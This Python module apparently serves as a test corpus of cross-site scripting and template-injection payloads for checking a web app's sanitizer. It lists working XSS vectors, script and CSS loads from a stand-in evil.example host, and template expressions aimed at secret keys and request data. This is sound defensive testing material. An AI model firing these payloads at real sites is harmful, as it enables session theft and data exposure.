"""The XSS corpus: hostile input written by the team, grouped by the trick it tries.

Every vector that could run calls alert(), confirm() or prompt() (the browser pass overrides
them and counts calls). Template-injection strings compute 7*191; the rendered page must never
show the result (the literal product appears in no vector, so finding it means evaluation).
Add a vector to the group whose trick it uses; the tests take every vector in every group.
"""

from __future__ import annotations

from dataclasses import dataclass

# What a template engine would print for the template-injection vectors below.
EVALUATED = str(7 * 191)


@dataclass(frozen=True)
class Vector:
    number: int
    group: str
    text: str

    def __str__(self) -> str:
        return f"#{self.number} ({self.group}): {self.text!r}"


SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script/src=data:,alert(4)></script>",
    "<script\x0d\x0a>alert(5)</script>",
    '<script type="text/javascript">confirm(6)</script>',
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(8)</script>",
    "</p></div></article><script>alert(9)</script>",
    "<script>prompt(10)</script><!--",
    "<<script>alert(11);//<</script>",
    '<script>eval("al"+"ert(12)")</script>',
    "<script>top['al'+'ert'](13)</script>",
    "<noscript><script>alert(14)</script></noscript>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(20)>",
    "<img src=x onerror=\"alert('21')\">",
    "<IMG SRC=x OnErRoR=alert(22)>",
    "<img/src=x/onerror=alert(23)>",
    "<body onload=alert(24)>",
    "<svg onload=alert(25)>",
    "<input autofocus onfocus=alert(26)>",
    "<details open ontoggle=alert(27)>",
    "<video><source onerror=alert(28)></video>",
    "<audio src=x onerror=alert(29)>",
    "<marquee onstart=alert(30)>x</marquee>",
    "<div onmouseover=alert(31)>hover me</div>",
    "<a onclick=alert(32) href=#>click</a>",
    "<iframe onload=alert(33)></iframe>",
    "<object data=x onerror=alert(34)></object>",
    "<select autofocus onfocus=alert(35)></select>",
    "<textarea autofocus onfocus=alert(36)></textarea>",
    "<keygen autofocus onfocus=alert(37)>",
    "<form><button formaction=javascript:alert(38)>go</button></form>",
    "<isindex type=image src=1 onerror=alert(39)>",
    "<img src=x:alert(40) onerror=eval(src)>",
    "<body onpageshow=alert(41)>",
    "<style onload=alert(42)></style>",
    "<img src=x onerror\x0b=alert(43)>",
]

MARKDOWN_URLS = [
    "[click](javascript:alert(50))",
    "[click](JaVaScRiPt:alert(51))",
    "[click](javascript&#58;alert(52))",
    "[click](javascript&colon;alert(53))",
    "[click](&#106;avascript:alert(54))",
    "[click](java\tscript:alert(55))",
    "[click](  javascript:alert(56))",
    "[click](<javascript:alert(57)>)",
    "[click](vbscript:msgbox(58))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg1OSk8L3NjcmlwdD4=)",
    "[click](data:text/html,<script>alert(60)</script>)",
    "![img](javascript:alert(61))",
    "![img](data:image/svg+xml,<svg onload=alert(62)>)",
    '![x" onerror="alert(63)](https://example.org/x.png)',
    '[x](https://example.org "title" onmouseover="alert(64)")',
    "[ref][r]\n\n[r]: javascript:alert(65)",
    "<javascript:alert(66)>",
    "[a](javascript://%0aalert(67))",
    "[a](javascript:/**/alert(68))",
    "[a](\\javascript:alert(69))",
    "[a](livescript:alert(70))",
    "[a](mocha:alert(71))",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/%2F..)",
    '[a](https://example.org/"onmouseover="alert(74))',
    "[a](https://example.org/'onmouseover='alert(75))",
    "[![x](javascript:alert(76))](javascript:alert(77))",
    "[a](data:application/x-javascript,alert(78))",
    "[a](jav&#x09;ascript:alert(79))",
    "[a](jav&#x0A;ascript:alert(80))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(81))",
    "[a](%6A%61%76%61%73%63%72%69%70%74:alert(82))",
    '<a href="javascript:alert(83)">raw link</a>',
    "<a href=' javascript:alert(84)'>raw</a>",
]

SVG_AND_MATHML = [
    "<svg><script>alert(90)</script></svg>",
    '<svg><a xlink:href="javascript:alert(91)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(92) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(93)"/>',
    "<svg><foreignObject><img src=x onerror=alert(94)></foreignObject></svg>",
    (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='alert(95)'/></svg>#x\"/></svg>"
    ),
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(96)>",
    '<math href="javascript:alert(97)">click</math>',
    "<svg><style>@import 'javascript:alert(98)';</style></svg>",
    "<svg/onload=alert(99)//",
    '<embed src="data:image/svg+xml,<svg onload=alert(100)>">',
    "<svg><desc><![CDATA[</desc><script>alert(101)</script>]]></svg>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(110)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(111)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(112) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(113)>",
    "<listing>&lt;img src=1 onerror=alert(114)&gt;</listing>",
    '<xmp><p title="</xmp><img src=x onerror=alert(115)>">',
    "<template><img src=x onerror=alert(116)></template>",
    "<!--><img src=x onerror=alert(117)>-->",
    "<![CDATA[><img src=x onerror=alert(118)>]]>",
    "<?xml><img src=x onerror=alert(119)>?>",
    "<table><td><img src=x onerror=alert(120)></td></table>",
    "<select><style></select><img src=x onerror=alert(121)></style>",
    '<a title="</a><img src=x onerror=alert(122)>">x</a>',
    '<div><iframe srcdoc="<script>alert(123)</script>"></iframe></div>',
    "<plaintext><img src=x onerror=alert(124)>",
    '<noembed><img title="</noembed><img src onerror=alert(125)>"></noembed>',
]

ATTRIBUTE_BREAKING = [
    '" onmouseover="alert(130)',
    "' onmouseover='alert(131)",
    '"><script>alert(132)</script>',
    "'><img src=x onerror=alert(133)>",
    '" autofocus onfocus="alert(134)" x="',
    "`onmouseover=alert(135)",
    '"/><svg onload=alert(136)>',
    '" style="background:url(javascript:alert(137))',
    '" href="javascript:alert(138)',
    '"><a href="javascript:alert(139)">x</a>',
    '"></a><script>alert(140)</script>',
    "</a><img src=x onerror=alert(141)>",
    '" hx-get="/django-admin/" hx-trigger="load',
    '" hx-on::load="alert(143)',
    "</option></select><img src=x onerror=alert(144)>",
    '"><input autofocus onfocus=alert(145)>',
]

ENTITIES_AND_UNICODE = [
    "&lt;script&gt;alert(150)&lt;/script&gt;",
    "&#60;script&#62;alert(151)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(152)&#x3E;",
    "\\u003cscript\\u003ealert(153)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(154)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(155)</scr\x00ipt>",
    "\u202egnp.exe<img src=x onerror=alert(156)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;157&#41;>",
    "<img src=x onerror=\\u0061lert(158)>",
    "%3Cscript%3Ealert(159)%3C/script%3E",
    "&amp;lt;script&amp;gt;alert(160)&amp;lt;/script&amp;gt;",
    "\u2028<script>alert(161)</script>\u2029",
    '<a href="&#14;javascript:alert(162)">x</a>',
    "<img src=x onerror=alert&#40;163&#41;>",
    "<\u0073cript>alert(164)</\u0073cript>",
    "\ufeff<script>alert(165)</script>",
    "<img src=x onerror=alert`166`>",
    "+ADw-script+AD4-alert(167)+ADw-/script+AD4-",
]

CSS = [
    "<style>body{background:url(javascript:alert(170))}</style>",
    '<div style="background-image:url(javascript:alert(171))">x</div>',
    '<div style="width:expression(alert(172))">x</div>',
    "<style>@import url(//evil.example/x.css);</style>",
    '<link rel="stylesheet" href="javascript:alert(174)">',
    '<div style="behavior:url(x.htc)">x</div>',
    '<p style="-moz-binding:url(//evil.example/x.xml#xss)">x</p>',
    "<style>*{x:expression(alert(177))}</style>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
    "<style>input[value^='a']{background:url(//evil.example/a)}</style>",
]

TEMPLATE_INJECTION = [
    "{{7*191}}",
    "{{ 7*191 }}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{% print(7*191) %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.META }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{% debug %}",
    "{{ csrf_token }}",
    "{{constructor.constructor('alert(192)')()}}",
    "[[7*191]]",
    "{{= 7*191 }}",
    "%(secret)s %s %d {0} {}",
]

MARKDOWN_AND_HTML_BLOCKS = [
    "<div>\n<script>alert(200)</script>\n</div>",
    "```\n</code></pre><script>alert(201)</script>\n```",
    "`</code><script>alert(202)</script>`",
    "> <img src=x onerror=alert(203)>",
    "- <svg onload=alert(204)>",
    "**<img src=x onerror=alert(205)>**",
    "# <script>alert(206)</script>",
    "<details><summary>x</summary><img src=x onerror=alert(207)></details>",
    '<base href="javascript:alert(208)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(209)">',
    '<iframe src="javascript:alert(210)"></iframe>',
    '<object data="javascript:alert(211)"></object>',
    '<form action="javascript:alert(212)"><input type=submit></form>',
    '<a href="https://evil.example" target="_blank">phish</a>',
    '<img src="https://evil.example/track.gif">',
    "@[<img src=x onerror=alert(215)>](1)",
    '<div hx-get="/accounts/delete/" hx-trigger="load">x</div>',
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    '<portal src="javascript:alert(218)"></portal>',
    '<applet code="javascript:alert(219)"></applet>',
]

GROUPS: dict[str, list[str]] = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "javascript:/data:/vbscript: URLs in Markdown": MARKDOWN_URLS,
    "SVG and MathML": SVG_AND_MATHML,
    "mutation XSS": MUTATION,
    "attribute breaking": ATTRIBUTE_BREAKING,
    "entity and Unicode tricks": ENTITIES_AND_UNICODE,
    "CSS": CSS,
    "template injection": TEMPLATE_INJECTION,
    "Markdown and HTML blocks": MARKDOWN_AND_HTML_BLOCKS,
}

VECTORS: list[Vector] = [
    Vector(number=number, group=group, text=text)
    for number, (group, text) in enumerate(
        (group, text) for group, texts in GROUPS.items() for text in texts
    )
]
